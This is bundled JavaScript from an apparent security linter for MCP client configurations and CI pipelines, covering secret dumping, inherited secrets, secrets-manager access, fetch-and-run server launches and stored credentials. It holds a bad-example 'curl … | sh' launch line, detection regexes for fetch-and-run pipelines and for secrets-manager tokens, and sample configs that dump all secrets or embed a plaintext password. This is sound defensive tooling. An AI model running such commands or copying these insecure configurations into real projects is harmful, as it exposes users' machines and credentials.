            'https://learn.microsoft.com/en-us/azure/devops/pipelines/tasks/reference/azure-key-vault-v2'
        ],
        bad: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy
        env:
          ALL: \${{ toJSON(secrets) }}
`
        },
        good: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    environment: production
    steps:
      - run: ./deploy
        env:
          DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}
`
        }
    },
    check({ pipeline }, report) {
        if (!pipeline)
            return;
        for (const use of pipeline.expressions) {
            if (use.syntax !== 'github')
                continue;
            for (const { path, within, expression } of (0,formats_expression/* referencesIn */.ii)(use.expression)) {
                if (path[0] !== 'secrets')
                    continue;
                const whole = path.length === 1;
                if (!whole && path[1] !== '?' && path[1] !== '*')
                    continue;
                report({
                    range: expression.range,
                    message: whole
                        ? `${within.includes('tojson') ? 'toJSON(secrets)' : 'the secrets context as a whole'} hands every secret to the job`
                        : 'a secret chosen by a computed name makes GitHub hand every secret to the job',
                    help: 'Name the secrets that are needed: ${{ secrets.NAME }}.',
                    subject: `${use.job?.id ?? ''} ${use.name ?? use.place}`
                });
            }
        }
        for (const job of pipeline.jobs)
            for (const step of job.steps)
                checkVault(step, report);
    }
};
function checkVault(step, report) {
    const task = step.uses?.name;
    if (task === 'azurekeyvault') {
        const filter = (0,inputs/* inputOf */.w)(step, 'SecretsFilter');
        const early = (0,inputs/* inputOf */.w)(step, 'RunAsPreJob');
        if (!filter || filter.text.trim() === '*') {
            report({
                range: (filter ?? step.uses.text).range(),
                message: filter
                    ? 'SecretsFilter: * downloads every secret of the vault into the job'
                    : 'without SecretsFilter the task downloads every secret of the vault into the job',
                help: 'List the names of the secrets that the job needs in SecretsFilter.',
                subject: `azurekeyvault ${step.index}`
            });
        }
        else if (early?.text.trim().toLowerCase() === 'true') {
            report({
                range: early.range(),
                severity: 'warning',
                message: 'RunAsPreJob hands the secrets to every task of the job, also to those before this one',
                help: 'Fetch the secrets right before the step that needs them: RunAsPreJob: false.',
                subject: `azurekeyvault ${step.index} pre-job`
            });
        }
    }
    else if (task === 'azure/get-keyvault-secrets') {
        const names = (0,inputs/* inputOf */.w)(step, 'secrets');
        if (names?.text.trim() !== '*')
            return;
        report({
            range: names.range(),
            message: 'secrets: * downloads every secret of the vault into the job',
            help: 'List the names of the secrets that the job needs.',
            subject: `get-keyvault-secrets ${step.index}`
        });
    }
}
//# sourceMappingURL=secrets-dump.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/secrets-inherit.js
/** `secrets: inherit`: the called workflow gets every secret that the caller can see. */
const secretsInherit = {
    meta: {
        id: 'secrets-inherit',
        summary: 'secrets: inherit hands every secret to the called workflow',
        severity: 'warning',
        why: '`secrets: inherit` gives the called workflow every secret of the repository and the organisation that the caller can see, now and in future, whether it needs it or not. Whoever can change that workflow, or what it runs, has them all, and the caller does not show which ones are in use.',
        fix: 'Pass the secrets that the workflow declares, by name: `secrets:` with one line for each. A called workflow of the same repository is only noted: it is reviewed with its caller, and secrets of environments can be had no other way.',
        securitySeverity: 5.5,
        references: [
            'https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow'
        ],
        bad: {
            file: '.github/workflows/release.yml',
            text: `on: push
permissions: {}
jobs:
  release:
    uses: acme/workflows/.github/workflows/release.yml@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f
    secrets: inherit
`
        },
        good: {
            file: '.github/workflows/release.yml',
            text: `on: push
permissions: {}
jobs:
  release:
    uses: acme/workflows/.github/workflows/release.yml@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f
    secrets:
      signing-key: \${{ secrets.SIGNING_KEY }}
`
        }
    },
    check({ pipeline }, report) {
        for (const { call, id } of pipeline?.jobs ?? []) {
            if (!call?.inherits)
                continue;
            const local = call.target.kind === 'local';
            report({
                range: call.inherits,
                message: `job '${id}' hands every secret to ${call.target.text.text}`,
                help: 'Pass the secrets it needs by name.',
                subject: id,
                ...(local ? { severity: 'note' } : {})
            });
        }
    }
};
//# sourceMappingURL=secrets-inherit.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/secrets-service-access.js


/** A server that reads a secrets manager with somebody's own key. */
const secretsServiceAccess = {
    meta: {
        id: 'secrets-service-access',
        summary: 'MCP server reaches a secrets manager with a personal key',
        severity: 'warning',
        why: "With such a server the model can read, and be talked into handing on, every secret that the key opens. The key is a person's or a service account's and lives long; the manager's log shows its owner, not the agent.",
        fix: 'Keep secrets managers out of the reach of agents. What a job needs it can read by its own identity before the agent starts (`mcp-gatehouse secrets`), by name and just in time.',
        securitySeverity: 7.5,
        references: [
            'https://genai.owasp.org/llmrisk/llm062025-excessive-agency/',
            'https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html'
        ],
        bad: {
            file: '.mcp.json',
            text: `{\n  "mcpServers": {\n    "vault": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-e", "VAULT_TOKEN", "hashicorp/vault-mcp-server@sha256:${'4b1d'.repeat(16)}"],\n      "env": {"VAULT_TOKEN": "\${VAULT_TOKEN}"}\n    }\n  }\n}\n`
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"], "env": {"API_KEY": "${DOCS_KEY}"}}\n  }\n}\n'
        }
    },
    check(facts, report) {
        for (const server of facts.mcpServers) {
            const access = accessOf(server);
            if (!access)
                continue;
            report({
                range: access.range,
                message: `${(0,server_label/* serverLabel */.K)(server)} reaches ${access.what} with a personal key`,
                help: 'Read the secrets that the job needs by its own identity before the agent starts.',
                subject: `${server.name} ${access.what}`
            });
        }
    }
};
const secrets_service_access_packages = /(?:^|[/@_-])(?:hashicorp\/vault|vault-mcp|mcp-(?:server-)?vault|(?:azure-)?key-?vault|(?:aws-)?secrets-?manager|gcp-secret-manager|1password|onepassword|op-mcp|bitwarden|bws|vaultwarden|keepass(?:xc)?|lastpass|dashlane|doppler|infisical|akeyless|conjur|delinea|thycotic|secretserver|keeper-secrets)(?:$|[/@_-])/i;
/** Variables that open a secrets manager, whatever server they are given to. */
const variables = /^(?:VAULT_(?:TOKEN|SECRET_ID|ROLE_ID)|OP_SERVICE_ACCOUNT_TOKEN|OP_SESSION\w*|OP_CONNECT_TOKEN|BW_(?:SESSION|PASSWORD|CLIENTSECRET)|BWS_ACCESS_TOKEN|DOPPLER_TOKEN|INFISICAL_(?:TOKEN|UNIVERSAL_AUTH_CLIENT_SECRET|SERVICE_TOKEN)|AKEYLESS_ACCESS_KEY|CONJUR_AUTHN_API_KEY|KEEPER_\w*(?:CONFIG|TOKEN)|LASTPASS_PASSWORD)$/i;
const address = /^https?:\/\/[^/]*(?:\.vault\.(?:azure\.net|azure\.cn|usgovcloudapi\.net)|secretsmanager[.\w-]*\.amazonaws\.com|secretmanager\.googleapis\.com)(?:[:/?#]|$)|^https?:\/\/(?:[^/]*\.)?vault(?:[.-][^/:]*)?:8200/i;
function accessOf(server) {
    const environment = [...server.env, ...(server.launch?.env ?? [])];
    const variable = environment.find(({ name, value }) => variables.test(name.text) && value.text !== '');
    if (variable)
        return { range: variable.name.range(), what: `a secrets manager (${variable.name.text})` };
    const passed = server.launch?.runnerFlags.find(({ text }) => variables.test(text));
    if (passed)
        return { range: passed.range(), what: `a secrets manager (${passed.text})` };
    const { launch } = server;
    const credentials = [...environment, ...server.headers, ...server.settings].some(({ name }) => /key|token|secret|passw|credential|authorization|session/i.test(name.text));
    if (launch?.target &&
        launch.targetText &&
        secrets_service_access_packages.test(launch.target) &&
        launch.ecosystem !== 'local' &&
        credentials) {
        return { range: launch.targetText.range(), what: (0,server_label/* targetLabel */.O)(server) };
    }
    const [url] = (0,insecure_transport/* addressesOf */.s)(server);
    if (url && address.test(url.text))
        return { range: url.range(), what: (0,server_label/* targetLabel */.O)(server) };
    const target = environment.find(({ value }) => address.test(value.text));
    return target && credentials
        ? { range: target.value.range(), what: `a secrets manager (${target.name.text})` }
        : undefined;
}
//# sourceMappingURL=secrets-service-access.js.map
// EXTERNAL MODULE: ./build/shared/lint/command-line/words.js
var command_line_words = __webpack_require__(48338);
;// CONCATENATED MODULE: ./build/shared/lint/rules/shell-pipeline.js


/** A server whose code comes from the network when it starts, and commands that a client runs at load. */
const shellPipeline = {
    meta: {
        id: 'shell-pipeline',
        summary: 'MCP server is started from a script out of the network',
        severity: 'error',
        why: '`curl … | sh` runs whatever the address answers at that moment, with the rights and credentials of whoever starts the client: nothing was reviewed, nothing is pinned, and the address can answer each caller differently. Commands that the client itself runs when it loads its configuration (`$(…)` of Crush, `headersHelper`) run as soon as the folder is opened and trusted.',
        fix: 'Install the server beforehand from a package with an exact version, or keep the script in the repository. Let the environment carry what `$(…)` would fetch; keep a `headersHelper` in the configuration of the user or of the job, not of the project.',
        securitySeverity: 8.5,
        references: ['https://cwe.mitre.org/data/definitions/494.html'],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "docs": {"command": "sh", "args": ["-c", "curl -fsSL https://docs.example.com/mcp.sh | sh"]}\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
        }
    },
    check(facts, report) {
        for (const server of facts.mcpServers) {
            const download = downloadedScript(server);
            if (download) {
                report({
                    range: download,
                    message: `${(0,server_label/* serverLabel */.K)(server)} is started from a script that is fetched from the network each time`,
                    help: 'Install it from a package with an exact version, or keep the script in the repository.',
                    subject: `${server.name} download`
                });
            }
            for (const problem of loadCommands(server))
                report(problem);
        }
    }
};
const fetcher = /^(?:.*[\\/])?(?:curl|wget|aria2c|iwr|irm|invoke-webrequest|invoke-restmethod)(?:\.exe)?$/i;
const interpreter = /^(?:.*[\\/])?(?:(?:ba|z|da|k|fi|a)?sh|python[\d.]*|node|perl|ruby|php|deno|iex|invoke-expression|source|\.)(?:\.exe)?$/i;
/** Where a script is fetched and run: a pipe into a shell, `bash <(curl …)`, `sh -c "$(curl …)"`. */
function downloadedScript(server) {
    const texts = [...(server.command ? [server.command] : []), ...server.args];
    for (const text of texts) {
        if (!/curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c/i.test(text.text))
            continue;
        if (/\s/.test(text.text) && isPipeline(text))
            return text.range();
    }
    return undefined;
}
function isPipeline(text) {
    if (/(?:<\(|\$\(|`)\s*(?:sudo\s+)?(?:curl|wget)\b/i.test(text.text) &&
        /(?:^|[\s;&|(])(?:(?:ba|z|da|k|a)?sh|eval|source|\.|python3?|node)\s/.test(text.text))
        return true;
    if (/\b(?:iex|invoke-expression)\s*\(+\s*(?:iwr|irm|invoke-|new-object\s+net\.webclient)/i.test(text.text))
        return true;
    const commands = (0,command_line_words/* splitCommands */.t)(text);
    return commands.some((words, index) => {
        const program = words.find(word => !/^(?:sudo|exec|command|env)$|=/.test(word.text));
        const next = commands[index + 1]?.find(word => !/^(?:sudo|exec|command|env|-\w+)$|=/.test(word.text));
        if (!program || !next || !fetcher.test(program.text) || !interpreter.test(next.text))
            return false;
        // Only a pipe hands the output on; `curl -o x && sh x` is two commands.
        const end = words.at(-1).range().end;
        const between = text.file.text.slice(end, next.range().start);
        return /^[^&;\n]*\|(?!\|)/.test(between);
    });
}
/** `$(…)` that Crush runs when it loads its configuration, and helpers in files of the project. */
function* loadCommands(server) {
    if (server.client === 'crush') {
        const values = [
            ...server.args,
            ...server.env.map(({ value }) => value),
            ...server.headers.map(({ value }) => value),
            ...(server.url ? [server.url] : [])
        ];
        for (const value of values) {
            const at = value.text.indexOf('$(');
            if (at < 0)
                continue;
            yield {
                range: value.range(at, value.text.length),
                message: `the client runs a command when it loads ${(0,server_label/* serverLabel */.K)(server)}`,
                help: 'Let the environment carry the value: $NAME.',
                subject: `${server.name} load`
            };
        }
    }
    if (server.origin !== 'file' || server.client === 'claude-code-user')
        return;
    for (const command of server.loadCommands) {
        yield {
            range: command.range(),
            severity: 'warning',
            message: `the client runs a command of the project when it connects to ${(0,server_label/* serverLabel */.K)(server)}`,
            help: 'Keep the helper in the configuration of the user or of the job.',
            subject: `${server.name} helper`
        };
    }
}
//# sourceMappingURL=shell-pipeline.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/static-gateway-token.js







/** A stored token for an MCP gateway that would take the identity of the job. */
const staticGatewayToken = {
    meta: {
        id: 'static-gateway-token',
        summary: 'Stored secret as the token of an MCP server or gateway',
        severity: 'warning',
        why: 'A stored token of the MCP gateway works for whoever has it, long after the run, and the audit log cannot tell the pipeline from a laptop: this is how a runner of someone who had left went on reading documents. The gateway trusts Microsoft Entra ID, and Entra ID trusts the identity of the job, so a token for one run can be had without storing anything.',
        fix: 'Let the `token` command get the token: on GitHub with `id-token: write`, in Azure Pipelines with a workload identity service connection; or use the `call` command, which does both. Then delete the stored token. Servers that know no federation keep their secret.',
        securitySeverity: 6,
        references: [
            'https://modelcontextprotocol.io/specification/2025-06-18/basic/authorization',
            'https://learn.microsoft.com/en-us/entra/workload-id/workload-identity-federation'
        ],
        bad: {
            file: '.github/workflows/call.yml',
            text: `on: push
permissions: {}
jobs:
  call:
    runs-on: ubuntu-latest
    steps:
      - run: ./call-tool create_pull_request
        env:
          MCP_GATEWAY_TOKEN: \${{ secrets.MCP_GATEWAY_TOKEN }}
`
        },
        good: {
            file: '.github/workflows/call.yml',
            text: `on: push
permissions: {}
jobs:
  call:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - id: gateway
        uses: acme/mcp-gatehouse@7c2f1a9e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f # v1.0.0
        with:
          command: token
          tenant-id: \${{ vars.AZURE_TENANT_ID }}
          client-id: \${{ vars.AZURE_CLIENT_ID }}
          resource: api://mcp-gateway
      - run: ./call-tool create_pull_request
        env:
          MCP_GATEWAY_TOKEN: \${{ steps.gateway.outputs.token }}
`
        }
    },
    check({ pipeline, mcpServers }, report, config) {
        if (!pipeline)
            return;
        const reported = [];
        const found = (range, subject, message, help) => {
            if (reported.some(other => other.start <= range.start && range.end <= other.end))
                return;
            reported.push(range);
            report({ range, subject, message, help });
        };
        for (const server of mcpServers) {
            if (!server.url || !isGateway(server.url.text, config))
                continue;
            for (const { name, value } of server.headers) {
                if (!storedSecret(value, pipeline, undefined))
                    continue;
                found(value.range(), `${server.name} ${name.text}`, `MCP server '${(0,credentials/* shownName */.HD)(server.name)}' is given a stored secret in ${name.text}`, forRun);
            }
        }
        for (const { variable, job } of variablesOf(pipeline)) {
            const name = variable.name.text;
            const secret = isGatewayToken(name) ? storedSecret(variable.value, pipeline, job) : undefined;
            if (!secret)
                continue;
            const message = `${name} takes its token from the stored secret ${secret}`;
            found(variable.range, name, message, forRun);
        }
        for (const job of pipeline.jobs) {
            for (const step of job.steps) {
                const ours = isThisAction(step) || step.uses?.name === 'mcpgatehouse';
                const token = ours ? (0,inputs/* inputOf */.w)(step, 'token') : undefined;
                const secret = token && storedSecret(token, pipeline, job);
                if (!token || !secret)
                    continue;
                found(token.range(), `${job.id} ${step.index}`, `the call is given the stored secret ${secret} as its token`, 'Drop token and give tenant-id, client-id and resource: the command then gets a token by itself.');
            }
        }
        // Wherever else a secret goes whose own name says what it is for, once in each job.
        const seen = new Set();
        for (const use of pipeline.expressions) {
            const [secret] = secretsIn(use).filter(isGatewayToken);
            if (!secret || use.place === 'condition' || madeInRun(secret, pipeline, use.job))
                continue;
            const key = `${use.job?.id ?? ''} ${secret}`;
            if (seen.has(key))
                continue;
            seen.add(key);
            found(use.range, key, `the stored secret ${secret} is the token of an MCP gateway`, forRun);
        }
    }
};
const forRun = 'Get a token for the run with the token command.';
function* variablesOf(pipeline) {
    const seen = new Set();
    for (const variable of pipeline.variables) {
        seen.add(variable);
        yield { variable, job: undefined };
    }
    for (const job of pipeline.jobs) {
        for (const variable of [...job.variables, ...job.steps.flatMap(step => step.variables)]) {
            if (seen.has(variable))
                continue;
            seen.add(variable);
            yield { variable, job };
        }
    }
}
const tokenWords = new Set('token key apikey secret password bearer auth authorization credential credentials pat jwt'.split(' '));
/** Services with servers of their own, which know no federation with Microsoft Entra ID. */
const services = new Set('github gitlab bitbucket notion slack linear jira atlassian confluence figma stripe sentry openai anthropic brave tavily context supabase vercel cloudflare docker google aws hubspot asana airtable postgres mongodb grafana datadog'.split(' '));
/** `MCP_TOKEN`, `mcpGatewayApiKey`, `ACME_MCP_TOKEN`; not `MCP_GITHUB_TOKEN`. */
function isGatewayToken(name) {
    const words = (0,credentials/* wordsOf */.Z9)(name);
    const mcp = words.indexOf('mcp');
    if (mcp < 0 || mcp === words.length - 1)
        return false;
    return tokenWords.has(words.at(-1)) && !words.some(word => services.has(word));
}
function isGateway(url, config) {
    return config.gateways.some(gateway => url.startsWith(gateway));
}
/** The stored secret in a value, as it is named. */
function storedSecret(value, pipeline, job) {
    if (pipeline.system === 'azure') {
        return (0,azure_expression/* findMacros */.$u)(value).find(({ name }) => isSecretVariable(name, pipeline, job) && !madeInRun(name, pipeline, job))?.name;
    }
    for (const { expression } of (0,github_expression/* findGitHubExpressions */.Go)(value)) {
        for (const { path, flows } of expression ? (0,formats_expression/* referencesIn */.ii)(expression) : []) {
            if (flows && path[0] === 'secrets' && path[1] !== undefined && path[1] !== 'github_token') {
                return path[1].toUpperCase();
            }
        }
    }
    return undefined;
}
/**
 * True for a variable of Azure Pipelines that this run makes and nothing stores: the output of a step
 * (`gateway.token`), or what a logging command sets.
 */
function madeInRun(name, pipeline, job) {
    if (pipeline.system !== 'azure')
        return false;
    const step = name.slice(0, Math.max(0, name.indexOf('.'))).toLowerCase();
    if (step !== '' && job?.steps.some(({ id }) => id?.toLowerCase() === step))
        return true;
    const lower = name.toLowerCase();
    return pipeline.jobs.some(({ steps }) => steps.some(({ script }) => {
        const text = script?.text.text.toLowerCase() ?? '';
        return text.includes('task.setvariable') && text.includes(`variable=${lower}`);
    }));
}
//# sourceMappingURL=static-gateway-token.js.map
// EXTERNAL MODULE: ./node_modules/jsonc-parser/lib/umd/main.js
var main = __webpack_require__(99547);
// EXTERNAL MODULE: ./build/shared/lint/fix.js
var fix = __webpack_require__(57167);
;// CONCATENATED MODULE: ./build/shared/lint/stored-credential-fix.js




/**
 * Replaces a stored credential of an MCP server by a reference in the syntax of the file's client.
 * Only where the client is known to expand it, and where the value is certainly a credential: a
 * reference that is sent as text would break the server.
 *
 * @param range the credential itself, within the site's value.
 */
function referenceFix(file, judgement, range, site) {
    const server = site?.server;
    if (!server || judgement.certainty !== 'known' || site.dialect !== 'mcp-client')
        return undefined;
    const client = (0,clients/* clientById */.U4)(server.client);
    const variable = stored_credential_fix_variableName(site, server);
    if (variable === undefined)
        return undefined;
    if (client.id === 'codex')
        return codexFix(file, site, variable);
    const { syntaxes, certain, example } = client.dialect;
    // An embedded configuration has the quoting of its surroundings, which a fix would have to keep.
    if (!certain || syntaxes.length === 0 || !client.paths.test(file.path))
        return undefined;
    // With `servers` a .mcp.json is one of Visual Studio, which reads references of another form.
    if (client.id === 'claude-code' && !file.text.includes('"mcpServers"'))
        return undefined;
    // Everything of a variable is the secret; of a header or an argument only the part that is.
    const whole = site.place === 'environment' ? site.value.range() : range;
    if (!isQuotedOrPlain(file.text, whole))
        return undefined;
    if (client.id === 'vscode')
        return inputFix(file, whole, variable, server);
    const reference = example.replace('NAME', variable);
    const name = /\w*NAME/.exec(example)[0].replace('NAME', variable);
    return {
        description: `replaced by ${reference}: ${whatToSet(client, name)}, and revoke the old value`,
        edits: [{ start: whole.start, end: whole.end, newText: reference }]
    };
}
function whatToSet({ id, title }, name) {
    if (id === 'continue' || id === 'gh-aw')
        return `store the secret ${name}`;
    return `set the environment variable ${name} where ${title} starts`;
}
/** VS Code asks for an input once and keeps it in the system's secret store. */
function inputFix(file, range, variable, server) {
    const id = variable.toLowerCase().replaceAll('_', '-');
    const inputs = inputsOf(file);
    const description = `${variable} of the MCP server ${server.name}`;
    return {
        description: `replaced by \${input:${id}}: VS Code asks for it once and keeps it in the secret store; revoke the old value`,
        edits: [
            { start: range.start, end: range.end, newText: `\${input:${id}}` },
            ...(inputs.ids.has(id) ? [] : inputs.adding(id, description))
        ]
    };
}
/** Read once for a file: it may hold many credentials. */
const knownInputs = new WeakMap();
function inputsOf(file) {
    const known = knownInputs.get(file);
    if (known)
        return known;
    const { text } = file;
    const formattingOptions = {
        insertSpaces: !/^\t/m.test(text),
        tabSize: /^( +)\S/m.exec(text)?.[1]?.length ?? 2,
        eol: (0,fix/* lineBreakOf */.n_)(text)
    };
    const tree = (0,main.parseTree)(text);
    const list = tree && (0,main.findNodeAtLocation)(tree, ['inputs']);
    const entry = { type: 'promptString', id: '{id}', description: '{description}', password: true };
    const inserted = (options) => list?.type === 'array'
        ? (0,main.modify)(text, ['inputs', -1], entry, { ...options, isArrayInsertion: true })
        : (0,main.modify)(text, ['inputs'], [entry], { ...options, getInsertionIndex: () => 0 });
    const formatted = inserted({ formattingOptions });
    // Formatting writes lines anew with all that stands in them, such as the credentials of others:
    // reports show fixes.
    const inputs = list ? text.slice(list.offset, list.offset + list.length) : '';
    const repeats = formatted.some(({ offset, length }) => text
        .slice(offset, offset + length)
        .replace(inputs, '')
        .replace('"inputs"', '')
        .includes('"'));
    const template = repeats ? inserted({}) : formatted;
    const found = {
        ids: new Set(list?.children?.map(child => (0,main.findNodeAtLocation)(child, ['id'])?.value)),
        adding: (id, description) => template.map(({ offset, length, content }) => ({
            start: offset,
            end: offset + length,
            newText: content
                .replace('"{id}"', () => JSON.stringify(id))
                .replace('"{description}"', () => JSON.stringify(description))
        }))
    };
    knownInputs.set(file, found);
    return found;
}
/**
 * Codex expands nothing: it takes the names of variables in keys of their own. Done where the
 * credential is the only entry of an inline table on one line, or has a line of its own in a table
 * below that of its server.
 */
function codexFix(file, site, variable) {
    const { start } = site.value.range();
    const { line, column } = file.position(start);
    const lineStart = start - (column - 1);
    const text = file.line(line);
    const edits = inlineTable(text, lineStart, variable) ?? ownLine(file, line, lineStart, variable);
    if (!edits)
        return undefined;
    return {
        description: `replaced by the name of the environment variable ${variable}: set it where Codex starts, and revoke the old value`,
        edits
    };
}
/** `env = { NAME = "value" }` */
function inlineTable(text, lineStart, variable) {
    const table = /^(\s*)(env|http_headers)\s*=\s*\{\s*("?)([\w-]+)\3\s*=\s*(["'])([^"']*)\5\s*\}/.exec(text);
    if (!table)
        return undefined;
    const [all, indent = '', kind, , name = '', , value = ''] = table;
    const newText = stored_credential_fix_byName(kind, name, value, variable);
    return newText === undefined
        ? undefined
        : [{ start: lineStart + indent.length, end: lineStart + all.length, newText }];
}
/** `NAME = "value"` below `[mcp_servers.x.env]`, with `[mcp_servers.x]` above that. */
function ownLine(file, line, lineStart, variable) {
    const entry = /^\s*("?)([\w-]+)\1\s*=\s*(["'])([^"']*)\3\s*(?:#.*)?$/.exec(file.line(line));
    const header = headerAbove(file, line);
    const table = header && /^\[(mcp_servers\..+)\.(env|http_headers)\]$/.exec(header.name);
    if (!entry || !table)
        return undefined;
    const server = headerAbove(file, header.line);
    if (server?.name !== `[${table[1]}]`)
        return undefined;
    const added = stored_credential_fix_byName(table[2], entry[2], entry[4], variable);
    if (added === undefined)
        return undefined;
    const whole = { start: lineStart, end: file.lineStart(line + 1), newText: '' };
    const key = added.slice(0, added.indexOf(' '));
    for (let at = server.line + 1; at < header.line; at++) {
        if (!new RegExp(`^\\s*${key}\\s*=`).test(file.line(at)))
            continue;
        // The key is there: a list on one line takes one more name, anything else is left alone.
        const list = /^\s*env_vars\s*=\s*\[[^\]#]*(?=\])/.exec(file.line(at));
        if (!list)
            return undefined;
        const end = file.lineStart(at) + list[0].length;
        const comma = /[[,]\s*$/.test(list[0]) ? '' : ', ';
        return [{ start: end, end, newText: `${comma}"${variable}"` }, whole];
    }
    const below = file.lineStart(server.line + 1);
    return [{ start: below, end: below, newText: `${added}\n` }, whole];
}
/** The key that takes a variable's name in place of a value. */
function stored_credential_fix_byName(table, name, value, variable) {
    if (table === 'env')
        return `env_vars = ["${variable}"]`;
    if (/^authorization$/i.test(name)) {
        return /^Bearer \S+$/.test(value) ? `bearer_token_env_var = "${variable}"` : undefined;
    }
    return `env_http_headers = { "${name}" = "${variable}" }`;
}
/** Tables of servers are short; a longer way up would only cost time. */
const maxTableLines = 200;
function headerAbove(file, line) {
    for (let at = line - 1; at >= Math.max(1, line - maxTableLines); at--) {
        const header = /^\s*(\[[^\]]+\])\s*(?:#.*)?$/.exec(file.line(at));
        if (header)
            return { line: at, name: header[1] };
    }
    return undefined;
}
/** A variable's own name, or one made of the server's name and that of the header or flag. */
function stored_credential_fix_variableName({ name, place }, server) {
    if (name === undefined || (0,credentials/* shownName */.HD)(name) !== name || (0,credentials/* shownName */.HD)(server.name) !== server.name) {
        return undefined;
    }
    if (place === 'environment')
        return /^[A-Za-z_]\w{0,80}$/.test(name) ? name : undefined;
    if (place !== 'header' && place !== 'argument')
        return undefined;
    const word = (text) => text
        .toUpperCase()
        .replace(/[^A-Z0-9]+/g, '_')
        .replace(/^_+|_+$/g, '');
    const what = /^authorization$/i.test(name) ? 'TOKEN' : word(name).replace(/^X_/, '');
    const variable = `${word(server.name)}_${what}`;
    return /^[A-Z][A-Z0-9_]{2,80}$/.test(variable) ? variable : undefined;
}
/** Characters around a value that are looked at for its quotation marks. */
const reach = 1000;
/** Inside quotation marks, or a plain scalar of YAML that a reference with a leading `$` may follow. */
function isQuotedOrPlain(text, { start, end }) {
    const before = text.slice(Math.max(0, start - reach), start);
    const after = text.slice(end, end + reach);
    const quoted = /["'][^"'\r\n]*$/.test(before) && /^[^"'\r\n]*["']/.test(after);
    return quoted || /(?:^|[\r\n])[ \t]*(?:- )?[\w-]+: $/.test(before);
}
//# sourceMappingURL=stored-credential-fix.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/stored-credential.js



/** A credential that stands in a file: by its format anywhere, by its name where values have one. */
const storedCredential = {
    meta: {
        id: 'stored-credential',
        summary: 'A credential is stored in the file',
        severity: 'error',
        why: 'Whoever can read the file, now or in any clone of its history, can use the credential: no log-in, no second factor, and no trace that tells the thief from the owner. It also goes on working when its owner has left. A pipeline needs none of this: it has an identity of its own, for which it can get a token that lives minutes.',
        fix: 'Revoke the credential first: it is in the history even when the line is gone. Then let the job get a short-lived token by OIDC (`mcp-gatehouse token`) or read the secret from a vault when it runs (`mcp-gatehouse secrets`). Where that is not possible, put it into the secret store of the CI system or the machine and refer to it in the syntax of the place: `${{ secrets.NAME }}` in a workflow, a secret variable in a pipeline, an environment variable or input in the configuration of an MCP client. A finding that says *guess* rests on the name and the look of the value: if it is no secret, say so with `# mcp-gatehouse: ignore[stored-credential] reason` or in the configuration.',
        securitySeverity: 9.1,
        references: [
            'https://cwe.mitre.org/data/definitions/798.html',
            'https://owasp.org/Top10/A07_2021-Identification_and_Authentication_Failures/',
            'https://learn.microsoft.com/azure/devops/pipelines/security/secrets'
        ],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "orders": {\n      "command": "uvx",\n      "args": ["orders-mcp==1.4.0"],\n      "env": {"DATABASE_URL": "postgresql://orders:Kd83-hQx1-pLz7@db.contoso.net:5432/orders"}\n    }\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "orders": {\n      "command": "uvx",\n      "args": ["orders-mcp==1.4.0"],\n      "env": {"DATABASE_URL": "${ORDERS_DATABASE_URL}"}\n    }\n  }\n}\n'
        }
    },
    check(facts, report, config) {
        const sites = new Sites(facts.credentialSites);
        const hits = (0,credentials.scan)(facts.file.text);
        const custom = customHits(facts, config).filter(hit => !overlapsAny(hits, hit));
        const known = [...hits, ...custom].sort((a, b) => a.start - b.start);
        for (const hit of known) {
            report(problem(facts.file, { ...hit, certainty: 'known' }, hit, sites.around(hit)));
        }
        // What shows only in the decoded value, and what only the name tells.
        const seen = new Set();
        for (const site of facts.credentialSites) {
            for (const judgement of (0,credentials/* judgeSite */.pL)(site)) {
                const range = site.value.range(judgement.start, judgement.end);
                if (seen.has(range.start) || overlapsAny(known, range))
                    continue;
                seen.add(range.start);
                report(problem(facts.file, judgement, range, site));
            }
        }
    }
};
function problem(file, judgement, range, site) {
    const fix = referenceFix(file, judgement, range, site);
    const name = site?.name === undefined ? undefined : (0,credentials/* shownName */.HD)(site.name);
    const server = site?.server && (0,credentials/* shownName */.HD)(site.server.name);
    const shown = judgement.prefix === '' ? '' : ` '${judgement.prefix}…'`;
    const where = [
        judgement.certainty === 'known' && name !== undefined ? ` in ${name}` : '',
        server === undefined ? '' : ` of MCP server '${server}'`
    ].join('');
    const what = judgement.certainty === 'known'
        ? `${article(judgement.name)} ${judgement.name}${shown} is stored in clear${where}`
        : `the ${guessName(judgement, name)}${where} looks like a stored credential (a guess by name and look)`;
    return {
        range,
        message: what,
        help: `Revoke it, then ${remedy(site)}.`,
        // A file that is meant to be filled in holds made-up values.
        ...(judgement.certainty === 'guess' && {
            severity: (0,clients/* isTemplatePath */.OY)(file.path) ? 'note' : 'warning'
        }),
        ...(fix && { fix }),
        subject: [judgement.id, name ?? '', server ?? ''].join(' ').trim()
    };
}
/** The judge names a value by its key; here by the key as it may be shown. */
function guessName(judgement, name) {
    if (judgement.id.startsWith('url-'))
        return judgement.name;
    const kind = judgement.id === 'basic-authorization' ? 'password in the value' : 'value';
    return `${kind} of ${name ?? 'this key'}`;
}
